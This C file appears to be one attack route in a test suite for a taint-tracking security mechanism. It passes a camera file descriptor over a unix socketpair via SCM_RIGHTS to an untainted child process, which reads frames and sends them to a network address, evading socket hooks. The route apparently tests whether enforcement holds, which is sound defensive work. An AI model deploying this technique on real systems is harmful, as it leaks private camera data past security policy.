/* scm_rights.c - attack: a tainted app hands its camera descriptor over a unix socket to an untainted process, which reads it and sends to a third party. */
#include <signal.h>
#include <sys/wait.h>

#include "attack.h"

#define ROUTE "scm_rights"

/* The receiver: untainted (forked before the camera was opened), it reads "frames" from the fd it is given and sends them. */
static void receiver(int sock, const struct sockaddr_storage *ss, socklen_t len)
{
	char ctl[CMSG_SPACE(sizeof(int))], byte, frame[64], buf[256];
	struct iovec iov = { .iov_base = &byte, .iov_len = 1 };
	struct msghdr msg = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = ctl,
			      .msg_controllen = sizeof(ctl) };
	struct cmsghdr *c;
	ssize_t got;
	size_t n;
	int cam = -1, fd;

	if (recvmsg(sock, &msg, 0) <= 0 || !(c = CMSG_FIRSTHDR(&msg)) || c->cmsg_type != SCM_RIGHTS) {
		at_result(ROUTE, "error", "no descriptor received");
		_exit(1);
	}
	memcpy(&cam, CMSG_DATA(c), sizeof(cam));
	got = read(cam, frame, sizeof(frame));
	if (got < 0) {
		at_result(ROUTE, "error", "read from the passed camera fd: %s", at_errname(errno));
		_exit(1);
	}
	n = at_token(buf, sizeof(buf), ROUTE);
	fd = socket(ss->ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0 || connect(fd, (const struct sockaddr *)ss, len) < 0) {
		at_report_errno(ROUTE, "receiver connect", errno);
		_exit(0);
	}
	if (send(fd, buf, n, MSG_NOSIGNAL) != (ssize_t)n || send(fd, frame, (size_t)got, MSG_NOSIGNAL) != got) {
		at_report_errno(ROUTE, "receiver send", errno);
		_exit(0);
	}
	at_result(ROUTE, "through", "the untainted receiver read %zd bytes from the passed camera fd and sent them",
		  got);
	_exit(0);
}

int main(int argc, char **argv)
{
	char ctl[CMSG_SPACE(sizeof(int))], byte = 'F';
	struct iovec iov = { .iov_base = &byte, .iov_len = 1 };
	struct msghdr msg = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = ctl,
			      .msg_controllen = sizeof(ctl) };
	struct sockaddr_storage ss;
	struct cmsghdr *c;
	socklen_t len;
	int sv[2], cam, status;
	pid_t pid;

	if (argc != 3) {
		fprintf(stderr, "usage: " ROUTE " CAMERA A.B.C.D:PORT (CAMERA must really open: it is passed on)\n");
		return 2;
	}
	at_need_inet(ROUTE, argv[2], &ss, &len);
	/* A socketpair has no address: no unix connect or sendmsg hook could judge it either. */
	if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sv) < 0)
		return at_report_errno(ROUTE, "socketpair", errno);
	fflush(stdout);
	pid = fork();
	if (pid < 0)
		return at_report_errno(ROUTE, "fork", errno);
	if (pid == 0) {
		close(sv[0]);
		receiver(sv[1], &ss, len);
	}
	close(sv[1]);
	cam = at_taint(ROUTE, argv[1]);
	if (cam < 0) {
		at_result(ROUTE, "error", "%s has no driver: there is no descriptor to pass", argv[1]);
		kill(pid, SIGKILL);
		return 1;
	}
	memset(ctl, 0, sizeof(ctl));
	c = CMSG_FIRSTHDR(&msg);
	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(c), &cam, sizeof(cam));
	if (sendmsg(sv[0], &msg, 0) < 0) {
		at_report_errno(ROUTE, "sendmsg(SCM_RIGHTS)", errno);
		kill(pid, SIGKILL);
	}
	close(cam);
	waitpid(pid, &status, 0);
	return 0;
}
